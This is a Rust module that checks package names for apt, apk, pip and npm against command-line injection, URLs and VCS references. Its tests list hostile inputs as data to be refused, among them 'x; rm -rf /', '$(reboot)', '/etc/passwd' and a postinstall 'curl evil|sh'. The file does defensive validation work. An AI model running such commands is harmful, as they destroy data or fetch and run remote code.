//! A task's language environment: the packages it needs, per package
//! manager, checked name by name before anything runs.
//!
//! Every name and version given here ends up as one argument of a package
//! manager's command line (never inside a shell string), so the checks are
//! about what the package manager would read as something else: an option
//! (a leading `-`), a URL, a path or a VCS reference, an environment marker.
//! What is left is each ecosystem's plain name-and-version syntax.

use std::collections::BTreeMap;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use super::task::TaskError;

/// Most packages in one list.
pub const MAX_PACKAGES: usize = 256;
/// Longest requirements.txt or package.json text.
pub const MAX_MANIFEST_BYTES: usize = 64 * 1024;

/// The packages a task needs on top of its image.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct Environment {
    /// A language runtime from the image's package manager: `python3`
    /// (with `venv`, for `pip`) or `node` (with `npm`). Implied by `pip`
    /// and `npm` packages.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub runtime: Option<Runtime>,
    /// Debian/Ubuntu packages: `name` or `name=version`.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub apt: Vec<String>,
    /// Alpine packages: `name`, or `name` with `=`, `~`, `>=`, `<=`, `>` or
    /// `<` and a version.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub apk: Vec<String>,
    /// Python packages, installed into a virtual environment:
    /// `name[extras]` and version specifiers (`requests==2.32.3`,
    /// `numpy>=1.26,<3`). No URLs, paths or markers.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub pip: Vec<String>,
    /// npm packages: `name` or `@scope/name`, optionally `@` and a version
    /// or range (`is-number@7.0.0`, `lodash@^4.17`). No URLs, paths or git.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub npm: Vec<String>,
    /// The text of a requirements.txt: one requirement per line, as in
    /// `pip`, with `#` comments. Options (`-r`, `-e`, `--index-url`, ...)
    /// are refused.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub requirements_txt: Option<String>,
    /// The text of a package.json: its `dependencies` are installed (each
    /// checked as in `npm`); only `name`, `version`, `private`,
    /// `description` and `dependencies` may appear.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub package_json: Option<String>,
}

/// A language runtime shorthand.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum Runtime {
    /// Python 3, with `venv`.
    Python3,
    /// Node.js, with npm.
    Node,
}

/// An environment reduced to what defines it: lists sorted and without
/// duplicates, the manifests folded into `pip` and `npm`, the runtimes the
/// packages imply added. Two tasks with the same normalised environment on
/// the same image share one built layer.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct NormalizedEnvironment {
    /// Runtimes, sorted.
    pub runtimes: Vec<Runtime>,
    /// apt packages.
    pub apt: Vec<String>,
    /// apk packages.
    pub apk: Vec<String>,
    /// pip requirements.
    pub pip: Vec<String>,
    /// npm packages.
    pub npm: Vec<String>,
}

impl NormalizedEnvironment {
    /// True when nothing is asked for.
    pub fn is_empty(&self) -> bool {
        self.runtimes.is_empty()
            && self.apt.is_empty()
            && self.apk.is_empty()
            && self.pip.is_empty()
            && self.npm.is_empty()
    }
}

fn check_list(field: &str, items: &[String], check: fn(&str) -> Result<(), String>) -> Result<(), TaskError> {
    if items.len() > MAX_PACKAGES {
        return Err(TaskError::new(field, format!("at most {MAX_PACKAGES} packages")));
    }
    for (index, item) in items.iter().enumerate() {
        check(item).map_err(|message| TaskError::new(format!("{field}[{index}]"), message))?;
    }
    Ok(())
}

fn sorted(items: impl IntoIterator<Item = String>) -> Vec<String> {
    let mut items: Vec<String> = items.into_iter().collect();
    items.sort();
    items.dedup();
    items
}

impl Environment {
    /// Checks every name and folds the environment into its normal form.
    pub fn normalize(&self) -> Result<NormalizedEnvironment, TaskError> {
        check_list("environment.apt", &self.apt, check_apt)?;
        check_list("environment.apk", &self.apk, check_apk)?;
        check_list("environment.pip", &self.pip, check_pip)?;
        check_list("environment.npm", &self.npm, check_npm)?;
        let mut pip = self.pip.iter().map(|spec| normalize_pip(spec)).collect::<Vec<_>>();
        if let Some(text) = &self.requirements_txt {
            pip.extend(parse_requirements(text)?);
        }
        let mut npm = self.npm.clone();
        if let Some(text) = &self.package_json {
            npm.extend(parse_package_json(text)?);
        }
        let (pip, npm) = (sorted(pip), sorted(npm));
        for (field, list) in [("environment.pip", &pip), ("environment.npm", &npm)] {
            if list.len() > MAX_PACKAGES {
                return Err(TaskError::new(field, format!("at most {MAX_PACKAGES} packages in all")));
            }
        }
        let mut runtimes: Vec<Runtime> = self.runtime.into_iter().collect();
        if !pip.is_empty() {
            runtimes.push(Runtime::Python3);
        }
        if !npm.is_empty() {
            runtimes.push(Runtime::Node);
        }
        runtimes.sort();
        runtimes.dedup();
        Ok(NormalizedEnvironment {
            runtimes,
            apt: sorted(self.apt.iter().cloned()),
            apk: sorted(self.apk.iter().cloned()),
            pip,
            npm,
        })
    }
}

fn is_name_char(byte: u8, extra: &[u8]) -> bool {
    byte.is_ascii_alphanumeric() || extra.contains(&byte)
}

fn check_chars(text: &str, what: &str, max: usize, extra: &[u8]) -> Result<(), String> {
    if text.is_empty() || text.len() > max {
        return Err(format!("{what} must be 1 to {max} characters"));
    }
    if !text.as_bytes()[0].is_ascii_alphanumeric() {
        return Err(format!("{what} {text:?} must start with a letter or digit"));
    }
    match text.bytes().find(|byte| !is_name_char(*byte, extra)) {
        Some(byte) => Err(format!("{what} {text:?} may not contain {:?}", byte as char)),
        None => Ok(()),
    }
}

/// `name` or `name=version` (Debian policy: lower case, digits, `+ - .`).
pub fn check_apt(spec: &str) -> Result<(), String> {
    let (name, version) = match spec.split_once('=') {
        Some((name, version)) => (name, Some(version)),
        None => (spec, None),
    };
    if name.bytes().any(|byte| byte.is_ascii_uppercase()) {
        return Err(format!("package name {name:?} must be lower case"));
    }
    check_chars(name, "package name", 128, b"+-.")?;
    if let Some(version) = version {
        check_chars(version, "version", 128, b".+:~-")?;
    }
    Ok(())
}

/// `name`, optionally with `=`, `~`, `>=`, `<=`, `>`, `<` and a version.
pub fn check_apk(spec: &str) -> Result<(), String> {
    let split = spec.find(['=', '~', '<', '>']);
    let (name, rest) = match split {
        Some(at) => spec.split_at(at),
        None => (spec, ""),
    };
    check_chars(name, "package name", 128, b"+._-")?;
    if !rest.is_empty() {
        let version = ["<=", ">=", "=", "~", "<", ">"]
            .iter()
            .find_map(|operator| rest.strip_prefix(operator))
            .ok_or_else(|| format!("{spec:?}: unknown version operator"))?;
        check_chars(version, "version", 128, b"._+-")?;
    }
    Ok(())
}

const PIP_OPERATORS: [&str; 8] = ["===", "==", "!=", "<=", ">=", "~=", "<", ">"];

/// A PEP 508 requirement without URL or marker: `name[extra,...]` and
/// comma-separated version specifiers.
pub fn check_pip(spec: &str) -> Result<(), String> {
    let spec = spec.trim();
    if spec.contains(';') || spec.contains('@') || spec.contains("://") {
        return Err(format!("{spec:?}: URLs, paths and environment markers are not allowed"));
    }
    let name_end = spec
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '_' || c == '-'))
        .unwrap_or(spec.len());
    let (name, mut rest) = spec.split_at(name_end);
    check_chars(name, "package name", 128, b"._-")?;
    if !name.as_bytes()[name.len() - 1].is_ascii_alphanumeric() {
        return Err(format!("package name {name:?} must end with a letter or digit"));
    }
    if let Some(after) = rest.strip_prefix('[') {
        let (extras, after) = after.split_once(']').ok_or_else(|| format!("{spec:?}: unclosed extras"))?;
        for extra in extras.split(',') {
            check_chars(extra.trim(), "extra", 64, b"._-")?;
        }
        rest = after;
    }
    let rest = rest.trim();
    if rest.is_empty() {
        return Ok(());
    }
    for clause in rest.split(',') {
        let clause = clause.trim();
        let version = PIP_OPERATORS
            .iter()
            .find_map(|operator| clause.strip_prefix(operator))
            .ok_or_else(|| format!("{spec:?}: {clause:?} is not a version specifier (==, >=, ~=, ...)"))?
            .trim();
        check_chars(version, "version", 64, b".*+!_-")?;
    }
    Ok(())
}

/// Removes the spaces a requirement may hold, so equal requirements
/// normalise equal.
fn normalize_pip(spec: &str) -> String {
    spec.chars().filter(|c| !c.is_whitespace()).collect()
}

/// `name`, `@scope/name`, optionally `@` and a version or range.
pub fn check_npm(spec: &str) -> Result<(), String> {
    let (scope, rest) = match spec.strip_prefix('@') {
        Some(scoped) => {
            let (scope, rest) =
                scoped.split_once('/').ok_or_else(|| format!("{spec:?}: a scope needs /name"))?;
            (Some(scope), rest)
        }
        None => (None, spec),
    };
    let (name, range) = match rest.split_once('@') {
        Some((name, range)) => (name, Some(range)),
        None => (rest, None),
    };
    if let Some(scope) = scope {
        check_chars(scope, "scope", 128, b"._-")?;
    }
    if name.bytes().any(|byte| byte.is_ascii_uppercase()) {
        return Err(format!("package name {name:?} must be lower case"));
    }
    check_chars(name, "package name", 214, b"._-")?;
    if let Some(range) = range {
        if range.is_empty() || range.len() > 64 {
            return Err(format!("{spec:?}: the version range must be 1 to 64 characters"));
        }
        if let Some(bad) = range.chars().find(|c| !(c.is_ascii_alphanumeric() || ".^~<>=*|+- ".contains(*c)))
        {
            return Err(format!("{spec:?}: a version range may not contain {bad:?} (no URLs, paths or git)"));
        }
        if range.starts_with('-') {
            return Err(format!("{spec:?}: a version range may not start with '-'"));
        }
    }
    Ok(())
}

/// The requirements of a requirements.txt text.
fn parse_requirements(text: &str) -> Result<Vec<String>, TaskError> {
    const FIELD: &str = "environment.requirements_txt";
    if text.len() > MAX_MANIFEST_BYTES {
        return Err(TaskError::new(FIELD, format!("at most {MAX_MANIFEST_BYTES} bytes")));
    }
    let mut requirements = Vec::new();
    for (index, line) in text.lines().enumerate() {
        let line = line.split('#').next().unwrap_or("").trim();
        if line.is_empty() {
            continue;
        }
        if line.starts_with('-') {
            return Err(TaskError::new(
                format!("{FIELD}:{}", index + 1),
                format!("{line:?}: options (-r, -e, --index-url, ...) are not allowed"),
            ));
        }
        check_pip(line).map_err(|message| TaskError::new(format!("{FIELD}:{}", index + 1), message))?;
        requirements.push(normalize_pip(line));
    }
    Ok(requirements)
}

/// The `dependencies` of a package.json text, as `name@range`.
fn parse_package_json(text: &str) -> Result<Vec<String>, TaskError> {
    const FIELD: &str = "environment.package_json";
    #[derive(Deserialize)]
    #[serde(deny_unknown_fields)]
    #[allow(dead_code)]
    struct PackageJson {
        #[serde(default)]
        name: Option<String>,
        #[serde(default)]
        version: Option<String>,
        #[serde(default)]
        private: Option<bool>,
        #[serde(default)]
        description: Option<String>,
        #[serde(default)]
        dependencies: BTreeMap<String, String>,
    }
    if text.len() > MAX_MANIFEST_BYTES {
        return Err(TaskError::new(FIELD, format!("at most {MAX_MANIFEST_BYTES} bytes")));
    }
    let manifest: PackageJson =
        serde_json::from_str(text).map_err(|error| TaskError::new(FIELD, error.to_string()))?;
    let mut packages = Vec::new();
    for (name, range) in manifest.dependencies {
        let spec = format!("{name}@{range}");
        check_npm(&spec)
            .map_err(|message| TaskError::new(format!("{FIELD}.dependencies.{name}"), message))?;
        packages.push(spec);
    }
    Ok(packages)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_names_and_versions_pass() {
        for spec in
            ["python3", "python3-numpy", "libc6=2.36-9+deb12u4", "g++", "nodejs=18.19.0+dfsg-6~deb12u2"]
        {
            check_apt(spec).unwrap_or_else(|error| panic!("{spec}: {error}"));
        }
        for spec in ["python3", "py3-pip", "nodejs>=20", "musl=1.2.5-r0", "busybox~1.36"] {
            check_apk(spec).unwrap_or_else(|error| panic!("{spec}: {error}"));
        }
        for spec in [
            "six",
            "requests==2.32.3",
            "numpy>=1.26,<3",
            "uvicorn[standard]~=0.30",
            "Django === 5.0",
            "a.b_c-d",
        ] {
            check_pip(spec).unwrap_or_else(|error| panic!("{spec}: {error}"));
        }
        for spec in
            ["is-number", "is-number@7.0.0", "lodash@^4.17.21", "@types/node@>=20 <22", "left-pad@1.x"]
        {
            check_npm(spec).unwrap_or_else(|error| panic!("{spec}: {error}"));
        }
    }

    #[test]
    fn anything_a_package_manager_would_read_as_more_than_a_name_is_refused() {
        let hostile = [
            "x; rm -rf /",
            "--index-url=http://evil",
            "-e",
            "$(reboot)",
            "`id`",
            "a b",
            "pkg\nother",
            "../../etc",
            "/etc/passwd",
            "",
        ];
        for spec in hostile {
            assert!(check_apt(spec).is_err(), "apt {spec:?}");
            assert!(check_apk(spec).is_err(), "apk {spec:?}");
            assert!(check_pip(spec).is_err(), "pip {spec:?}");
            assert!(check_npm(spec).is_err(), "npm {spec:?}");
        }
        for spec in ["pkg @ https://evil/x.whl", "pkg; python_version<'3'", "git+https://x/y", "./local"] {
            assert!(check_pip(spec).is_err(), "pip {spec:?}");
        }
        for spec in ["x@git+https://evil", "x@file:../y", "x@https://evil/x.tgz", "x@github:u/r", "X"] {
            assert!(check_npm(spec).is_err(), "npm {spec:?}");
        }
        assert!(check_apt("Python3").is_err());
        assert!(check_apk("x=>1").is_err());
    }

    #[test]
    fn normalizing_sorts_merges_and_implies_runtimes() {
        let environment = Environment {
            pip: vec!["six==1.16.0".into(), "attrs".into(), "six == 1.16.0".into()],
            requirements_txt: Some("# deps\nidna>=3  # comment\n\nattrs\n".into()),
            package_json: Some(r#"{"name": "x", "dependencies": {"is-number": "7.0.0"}}"#.into()),
            apt: vec!["curl".into(), "curl".into()],
            ..Environment::default()
        };
        let normal = environment.normalize().unwrap();
        assert_eq!(normal.pip, ["attrs", "idna>=3", "six==1.16.0"]);
        assert_eq!(normal.npm, ["is-number@7.0.0"]);
        assert_eq!(normal.apt, ["curl"]);
        assert_eq!(normal.runtimes, [Runtime::Python3, Runtime::Node]);
    }

    #[test]
    fn manifests_refuse_options_and_unknown_keys_naming_the_line() {
        let environment = Environment {
            requirements_txt: Some("six\n--index-url http://evil\n".into()),
            ..Environment::default()
        };
        let error = environment.normalize().unwrap_err();
        assert_eq!(error.field, "environment.requirements_txt:2", "{error}");
        let environment = Environment {
            package_json: Some(r#"{"dependencies": {}, "scripts": {"postinstall": "curl evil|sh"}}"#.into()),
            ..Environment::default()
        };
        assert_eq!(environment.normalize().unwrap_err().field, "environment.package_json");
        let environment = Environment {
            package_json: Some(r#"{"dependencies": {"x": "git+https://evil"}}"#.into()),
            ..Environment::default()
        };
        assert_eq!(environment.normalize().unwrap_err().field, "environment.package_json.dependencies.x");
        let environment =
            Environment { pip: vec!["ok".into(), "x; rm -rf /".into()], ..Environment::default() };
        assert_eq!(environment.normalize().unwrap_err().field, "environment.pip[1]");
    }
}
